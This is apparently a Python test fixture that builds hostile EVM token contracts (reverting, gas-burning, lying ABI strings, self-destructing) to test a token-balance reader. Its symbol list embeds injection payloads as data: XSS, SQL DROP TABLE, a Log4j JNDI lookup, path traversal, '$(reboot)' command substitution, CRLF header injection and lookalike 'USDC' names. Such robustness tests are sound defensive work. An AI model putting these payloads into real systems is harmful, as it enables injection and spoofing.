"""Hostile tokens, generated: what each does, and what of it may be counted.

A token is known by chain and address: what it calls itself is told and never believed.
"""

from dataclasses import dataclass

from tests.evm import hostile
from tests.evm.hostile import BALANCE_OF, DECIMALS, SYMBOL, returns_by_selector, returns_word

HELD = 7 * 10**18
WORD = 32


@dataclass(frozen=True, slots=True)
class Token:
    """A contract; ``amount`` is what of it counts in whole units, ``None`` where it must not."""

    name: str
    code: bytes
    amount: int | None
    decimals: int = 18


def returns_bytes(data: bytes) -> bytes:
    """Any answer, whatever is asked."""
    words = [data[at : at + WORD].ljust(WORD, b"\0") for at in range(0, len(data), WORD)]
    stores = b"".join(
        hostile.push(int.from_bytes(word)) + hostile.push(WORD * at) + bytes([hostile.MSTORE])
        for at, word in enumerate(words)
    )
    return stores + hostile.returns_zeros(len(data))


def text(raw: bytes, length: int | None = None, offset: int = WORD) -> bytes:
    """An ABI-encoded string, whose offset and length may lie."""
    said = len(raw) if length is None else length
    padded = raw + bytes(-len(raw) % WORD)
    return offset.to_bytes(WORD) + said.to_bytes(WORD) + padded


def token(
    decimals: bytes | None = None, symbol: bytes | None = None, balance: bytes | None = None
) -> bytes:
    """A token of 18 decimals that everybody holds seven of, but for the parts that are given."""
    return returns_by_selector(
        {
            DECIMALS: returns_word(18) if decimals is None else decimals,
            SYMBOL: returns_bytes(text(b"GOOD")) if symbol is None else symbol,
            BALANCE_OF: returns_word(HELD) if balance is None else balance,
        },
        hostile.REVERTS,
    )


HARM = {
    "reverts": hostile.REVERTS,
    "invalid opcode": hostile.INVALID_OPCODE,
    "burns all gas": hostile.BURNS_ALL_GAS,
    "answers nothing": hostile.RETURNS_NOTHING,
    "answers a megabyte": hostile.returns_zeros(1024 * hostile.KIBI),
    "reverts with a megabyte": (
        hostile.push(1024 * hostile.KIBI) + hostile.push(0) + bytes([hostile.REVERT])
    ),
    **{f"answers {size} bytes": hostile.returns_zeros(size) for size in (1, 4, 20, 31)},
}

NAMES = [
    b"USDC",
    "USD\u0421".encode(),  # a Cyrillic letter
    "US\u200bDC".encode(),  # nothing between
    "\u202eCDSU".encode(),  # backwards
    "\uff35\uff33\uff24\uff23".encode(),  # wide letters
    b"USDC\0",
    b" USDC",
    b"usdc",
    b"WETH",
    b"ETH",
    b"eip155:31337/slip44:60",
    b"",
    b"\xff\xfe\xfd",
    b"\xed\xa0\x80",  # half a surrogate pair
    b"\x1b[2J\x1b[31m",
    b"<script>alert(1)</script>",
    b"'; DROP TABLE tokens; --",
    b"${jndi:ldap://x/y}",
    b"{{7*7}}",
    b"%s%n%x",
    b"../../etc/passwd",
    b"=HYPERLINK(1)",
    b"$(reboot)",
    b"\r\nSet-Cookie: a=b",
    "\U0001f4b5".encode() * 8,
    b"A" * 300,
]


def _generated() -> list[Token]:
    zoo = [Token(f"decimals: {name}", token(decimals=code), None) for name, code in HARM.items()]
    too_many = [*range(37, 256, 19), 255, 2**8, 2**16, 2**64, 2**128, 2**255, 2**256 - 1]
    zoo += [Token(f"claims {n} decimals", token(decimals=returns_word(n)), None) for n in too_many]
    zoo += [
        Token(f"has {n} decimals", token(decimals=returns_word(n)), HELD, decimals=n)
        for n in (0, 1, 6, 36)
    ]
    zoo += [Token(f"symbol: {name}", token(symbol=code), None) for name, code in HARM.items()]
    zoo += [
        Token(f"is called {raw!r}", token(symbol=returns_bytes(text(raw))), _if_text(raw))
        for raw in NAMES
    ]
    lies = {
        "beyond its end": text(b"GOOD", length=10**6),
        "longer than memory": text(b"GOOD", length=2**256 - 1),
        "elsewhere": text(b"GOOD", offset=2**255),
        "in itself": text(b"GOOD", offset=0),
    }
    zoo += [
        Token(f"symbol lies {how}", token(symbol=returns_bytes(data)), None)
        for how, data in lies.items()
    ]
    old = [b"MKR", b"USDC", b"\x1b[31m", b"\xff" * 32]
    zoo += [
        Token(
            f"old symbol {raw!r}",
            token(symbol=returns_word(int.from_bytes(raw.ljust(WORD, b"\0")))),
            HELD,
        )
        for raw in old
    ]
    zoo += [Token(f"balance: {name}", token(balance=code), None) for name, code in HARM.items()]
    amounts = [1, 10**18, 2**64]
    zoo += [Token(f"balance {n}", token(balance=returns_word(n)), n) for n in amounts]
    zoo += [
        Token("is no contract", b"", None),
        Token("says one thing whatever is asked", returns_word(18), 18),
        Token("answers with itself", bytes([0x30]) + hostile.push(0) + b"\x52" + _RETURN_32, None),
        Token("answers with its caller", bytes([0x33]) + hostile.push(0) + b"\x52" + _RETURN_32,
              None),
        Token("destroys itself", hostile.push(0) + b"\xff", None),
        Token("calls itself", _CALLS_ITSELF, 18),
    ]  # fmt: skip
    return zoo


def _if_text(raw: bytes) -> int | None:
    """A symbol that is no text excludes its token, as nothing else it says can be relied on."""
    try:
        raw.decode()
    except UnicodeDecodeError:
        return None
    return HELD


_RETURN_32 = hostile.returns_zeros(32)
# GAS ADDRESS: staticcall oneself with all gas, then answer 18.
_CALLS_ITSELF = bytes([0x5F, 0x5F, 0x5F, 0x5F, 0x30, 0x5A, 0xFA, 0x50]) + returns_word(18)

ZOO = _generated()
HUGE = [
    Token(f"balance {n}", token(balance=returns_word(n)), n)
    for n in (2**65, 2**128, 2**160 - 1, 2**255, 2**256 - 1)
]
"""Each by itself: beside one of them nothing else can be seen in a sum."""
